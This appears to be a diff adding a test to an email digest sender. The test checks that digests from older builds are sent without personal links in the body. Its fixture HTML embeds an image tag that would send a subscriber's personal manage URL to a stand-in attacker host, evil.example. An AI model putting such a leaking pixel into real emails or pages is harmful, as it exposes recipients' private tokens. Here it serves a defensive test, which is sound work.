@@ -452,6 +452,33 @@ def test_a_digest_without_an_unsubscribe_link_is_refused(
     assert store.deliveries(digest_id) == [] and server.handler.total == 0
 
 
+def test_a_digest_built_by_an_older_version_goes_out_without_personal_body_links(
+    tmp_path: Path, store: Store, server: SmtpServer
+) -> None:
+    """Older builds marked personal links with fixed strings a feed could imitate: such a
+    digest (say, one in flight during the upgrade) is sent with the site's token-less pages
+    in its body; only the List-Unsubscribe header, which no feed reaches, is personal."""
+    config = _config(tmp_path, server)
+    [sid] = add_people(store, 1)
+    html = (
+        '<p>Story <img src="https://evil.example/p.gif?m=%%MANAGE_URL%%"> %%RECIPIENT%%</p>'
+        '<p><a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a> <a href="%%MANAGE_URL%%">Manage</a></p>'
+    )
+    text = "Story %%MANAGE_URL%%\nUnsubscribe: %%UNSUBSCRIBE_URL%%\n"
+    digest_id = make_digest(store, tmp_path, html=html, text=text)
+    (Path(store.get_digest(digest_id).path) / "digest.json").unlink()  # an old build
+    assert send_digest(config, store, digest_id).sent == 1
+    [raw] = server.messages["reader0@example.com"]
+    msg = BytesParser(policy=policy.default).parsebytes(raw)
+    body = msg.get_body(("html",)).get_content() + msg.get_body(("plain",)).get_content()
+    assert "/manage/" not in body and "/unsubscribe/" not in body and "reader0" not in body
+    assert f"{SITE_URL}/unsubscribe" in body and "%%" not in body
+    header = msg["List-Unsubscribe"].strip("<>")
+    assert header.startswith(f"{SITE_URL}/unsubscribe/")
+    link = Tokens.from_config(config).read(UNSUBSCRIBE, header.rsplit("/", 1)[1])
+    assert link.names(store.get_subscriber(sid))
+
+
 def test_no_server_leaves_every_row_pending(tmp_path: Path, store: Store) -> None:
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
